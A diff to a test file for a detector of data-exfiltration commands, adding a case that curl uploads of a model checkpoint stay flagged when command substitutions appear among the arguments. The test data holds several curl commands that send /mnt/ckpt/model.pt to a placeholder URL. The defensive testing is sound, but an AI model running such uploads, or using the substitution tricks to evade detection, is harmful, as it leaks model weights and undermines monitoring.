@@ -313,6 +313,15 @@ describe("an option counts only in its own tool's command (attrs.exec.toolWords)
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
   });
 
+  it('keeps a command whole around an unquoted command substitution among its arguments', () => {
+    // The words after `$(…)` or a backquote stay curl's (they were read as a command of their own, whose tool was `-T`).
+    for (const argv of [
+      sh(`curl -s $(echo -n) -T /mnt/ckpt/model.pt ${U}`),
+      sh(`curl -s \`true\` -T /mnt/ckpt/model.pt ${U}`),
+      sh(`curl -s -H "X-Id: $(hostname)" -H x:$(date +%s) -F f=@/mnt/ckpt/model.pt ${U}`),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+  });
+
   it('reads kubectl cp only from tar writing to stdout, git pushes only from git, a listing only of what it lists', () => {
     expect(execRuleIds(['tar', 'cf', '-', '/mnt/ckpt/model.pt'])).toContain('MLS-EXFIL-012');
     expect(execRuleIds(sh('tar -czf - /mnt/ckpt | cat > /dev/null'))).toContain('MLS-EXFIL-012');
